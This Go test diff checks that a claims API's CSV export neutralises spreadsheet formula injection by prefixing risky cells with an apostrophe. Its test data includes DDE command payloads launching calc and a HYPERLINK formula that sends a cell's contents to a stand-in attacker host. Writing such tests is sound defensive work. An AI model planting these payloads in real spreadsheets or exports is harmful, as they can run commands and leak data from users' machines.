@@ -344,6 +344,10 @@ func TestExportCSV(t *testing.T) {
 	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
 		t.Fatalf("status %d, type %q", resp.StatusCode, resp.Header.Get("Content-Type"))
 	}
+	body, ok := bytes.CutPrefix(body, []byte(utf8BOM))
+	if !ok {
+		t.Errorf("CSV does not open with a UTF-8 byte order mark: %.20q", body)
+	}
 	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
 	if err != nil {
 		t.Fatal(err)
@@ -358,6 +362,72 @@ func TestExportCSV(t *testing.T) {
 	}
 	if resp.Header.Get("X-Total-Count") != "250" {
 		t.Errorf("X-Total-Count = %q", resp.Header.Get("X-Total-Count"))
+	}
+}
+
+func TestCSVText(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"", ""},
+		{"Le Monde", "Le Monde"},
+		{"=HYPERLINK(\"https://evil.example\",\"x\")", "'=HYPERLINK(\"https://evil.example\",\"x\")"},
+		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"a=1+1", "a=1+1"},
+		{"'already quoted", "'already quoted"},
+		{"Économie", "Économie"},
+	}
+	for _, tt := range tests {
+		if got := csvText(tt.in); got != tt.want {
+			t.Errorf("csvText(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+// TestExportCSVCells: text cells that would run as formulas are neutralised, numbers (negative
+// ones too) stay numbers, and the site's name is there with its accents.
+func TestExportCSVCells(t *testing.T) {
+	vmax := 3.5
+	claims := []claimwire.Claim{{
+		ID: "f1",
+		Quantity: claimwire.Quantity{Surface: "-5 %", Value: -5, ValueMax: &vmax, Unit: "percent",
+			Qualifier: "exact", Lang: "fr", Metric: "=1+1",
+			Sentence: `=HYPERLINK("https://evil.example/?"&A1,"Cliquez") baisse de -5 % de la production.`},
+		URL: "https://evil.example/a", Site: "evil.example", SiteName: "@Économie & Société",
+		Title: "+cmd|' /C calc'!A0",
+	}}
+	srv := newServer(t, claims)
+	resp, body := get(t, srv, "/api/claims.csv")
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("status %d: %s", resp.StatusCode, body)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte(utf8BOM)))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != 2 {
+		t.Fatalf("%d rows, want a header and one claim", len(rows))
+	}
+	got := map[string]string{}
+	for i, name := range rows[0] {
+		got[name] = rows[1][i]
+	}
+	want := map[string]string{
+		"value":     "-5",
+		"value_max": "3.5",
+		"surface":   "'-5 %",
+		"sentence":  `'=HYPERLINK("https://evil.example/?"&A1,"Cliquez") baisse de -5 % de la production.`,
+		"metric":    "'=1+1",
+		"title":     "'+cmd|' /C calc'!A0",
+		"site":      "evil.example",
+		"site_name": "'@Économie & Société",
+	}
+	for col, w := range want {
+		if got[col] != w {
+			t.Errorf("%s = %q, want %q", col, got[col], w)
+		}
 	}
 }
 
